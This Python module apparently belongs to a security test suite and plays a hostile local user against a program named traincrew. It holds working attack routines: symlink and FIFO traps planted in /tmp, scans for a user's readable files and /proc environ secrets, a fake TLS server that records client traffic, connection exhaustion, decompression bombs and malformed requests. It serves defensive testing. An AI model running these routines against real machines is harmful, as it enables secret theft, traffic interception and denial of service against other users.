"""What another user of the machine tries, as a program: ``python -m suites.trust.attacks NAME``."""

from __future__ import annotations

import contextlib
import json
import os
import select
import socket
import ssl
import stat
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

from bombs import bomb

if TYPE_CHECKING:
    from collections.abc import Callable

SHARED = (Path("/tmp"), Path("/dev/shm"))
BOMB_BYTES = 256 * 1024 * 1024


def plant(uid: str, victim: str) -> list[str]:
    """Create what a careless program would use, follow or wait for."""
    planted = []
    for directory in SHARED:
        for name in (f"traincrew-{uid}", "traincrew-default", "traincrew-aaaaaaaa", "traincrew"):
            planted += _plant(directory / name, victim)
    return planted


def _plant(path: Path, victim: str) -> list[str]:
    path.mkdir()
    path.chmod(0o777)
    (path / ".owner").symlink_to(victim)
    (path / "serving.lock").symlink_to(victim)
    os.mkfifo(path / "node")
    for end, make in (("-link", _link), ("-fifo", _fifo), ("-socket", _socket)):
        make(path.with_name(path.name + end), victim)
    return [str(path), *(str(path) + end for end in ("-link", "-fifo", "-socket"))]


def _link(path: Path, victim: str) -> None:
    path.symlink_to(victim)


def _fifo(path: Path, _: str) -> None:
    os.mkfifo(path)


def _socket(path: Path, _: str) -> None:
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))


def read(uid: str, *roots: str) -> list[str]:
    """Return everything private of a user that can be read, and all that can be written."""
    found = []
    private = [str(path) for path in map(Path, roots)]
    for directory in SHARED:
        for path in directory.iterdir():
            with contextlib.suppress(OSError):
                if path.lstat().st_uid == int(uid):
                    private.append(str(path))
    for root in private:
        for directory_name, directories, files in os.walk(root):
            for name in (*directories, *files, "."):
                path = Path(directory_name) / name
                with contextlib.suppress(OSError):
                    mode = path.lstat().st_mode
                    if stat.S_ISREG(mode) and os.access(path, os.R_OK):
                        found.append(f"read {path}")
                    if not stat.S_ISLNK(mode) and os.access(path, os.W_OK):
                        found.append(f"write {path}")
    for entry in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if entry.stat().st_uid == int(uid):
                (entry / "environ").read_bytes()
                found.append(f"read {entry / 'environ'}")
    return found


def write(*roots: str) -> list[str]:
    """Return everything below these directories that can be written."""
    return [
        str(Path(directory) / name)
        for root in roots
        for directory, directories, files in os.walk(root)
        for name in (*directories, *files)
        if os.access(Path(directory) / name, os.W_OK, follow_symlinks=False)
    ]


def sockets(uid: str) -> list[str]:
    """Return the local sockets of a user that accept a connection."""
    found = []
    lines = Path("/proc/net/unix").read_text().splitlines()[1:]
    for path in {words[7] for line in lines if len(words := line.split()) > 7}:
        address = path.replace("@", "\0", 1) if path.startswith("@") else path
        if "traincrew" not in path and f"/{uid}/" not in path:
            continue
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
            client.settimeout(1)
            client.connect(address)
            found.append(path)
    return found


def impersonate(port: str, certificate: str, ready: str, heard: str) -> None:
    """Serve TLS on a port until killed; write down what clients say."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    with socket.create_server(("127.0.0.1", int(port))) as listener:
        Path(ready).touch()
        while True:
            connection, _ = listener.accept()
            with connection, contextlib.suppress(OSError):
                connection.settimeout(5)
                secured = context.wrap_socket(connection, server_side=True)
                with Path(heard).open("ab") as file:
                    file.write(secured.recv(65536))


def _connect(port: str) -> ssl.SSLSocket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(socket.create_connection(("127.0.0.1", int(port)), timeout=30))


def idle(port: str, count: str) -> None:
    """Hold connections that say nothing, each opened again when it is closed, until killed."""
    held: list[socket.socket] = []
    told = False
    while True:
        for connection in select.select(held, [], [], 0)[0]:
            held.remove(connection)
            connection.close()
        for _ in range(min(50, int(count) - len(held))):
            with contextlib.suppress(OSError):
                held.append(socket.create_connection(("127.0.0.1", int(port)), timeout=0.2))
        if len(held) > int(count) * 0.2 and not told:
            told = bool(sys.stdout.write("holding\n"))
            sys.stdout.flush()
        time.sleep(0.01)


def bombs(port: str) -> list[int]:
    """Send compressed bodies without credentials; return the codes of the answers."""
    codes = []
    for encoding in ("gzip", "deflate"):
        body = bomb(encoding, BOMB_BYTES)
        with _connect(port) as connection, contextlib.suppress(BrokenPipeError, ConnectionError):
            head = (
                "POST /api/v1/namespaces/default/pods HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                f"Content-Type: application/json\r\nContent-Encoding: {encoding}\r\n"
                f"Content-Length: {len(body)}\r\n\r\n"
            )
            connection.sendall(head.encode())
            codes.append(int(connection.recv(65536).split()[1]))
            connection.sendall(body)
    return codes


def malformed(port: str, count: str) -> int:
    """Send requests that no server can parse; return how many were answered."""
    answered = 0
    requests = [
        b"\x16\x03\x01 nonsense\r\n\r\n",
        b"GET /\x00 HTTP/9.9\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: x\r\n\r\n",
        b"GET / HTTP/1.1\r\nX" + b"y" * 200_000 + b"\r\n\r\n",
    ]
    for number in range(int(count)):
        with contextlib.suppress(OSError), _connect(port) as connection:
            connection.sendall(requests[number % len(requests)])
            answered += bool(connection.recv(65536))
    return answered


def sessions(port: str) -> list[int]:
    """Ask the page for a session by bodies that are none; return the codes of the answers."""
    codes = []
    bodies = [
        ("identity", b"\xff\xfe\xc3("),
        ("identity", b"[" * 4000),
        ("identity", b" " * (4 << 20)),
        ("gzip", bomb("gzip", 4 << 30)),
        ("deflate", bomb("deflate", 4 << 30)),
    ]
    for encoding, body in bodies:
        head = (
            f"POST /session HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n"
            f"Content-Encoding: {encoding}\r\nContent-Length: {len(body)}\r\n\r\n"
        )
        address = ("127.0.0.1", int(port))
        with socket.create_connection(address, timeout=30) as connection:
            connection.sendall(head.encode())
            with contextlib.suppress(BrokenPipeError, ConnectionError):
                connection.sendall(body)
            codes.append(int(connection.recv(65536).split()[1]))
    return codes


ATTACKS: dict[str, Callable[..., Any]] = {
    each.__name__: each
    for each in (plant, read, write, sockets, impersonate, idle, bombs, malformed, sessions)
}

if __name__ == "__main__":
    sys.stdout.write(json.dumps(ATTACKS[sys.argv[1]](*sys.argv[2:])) + "\n")
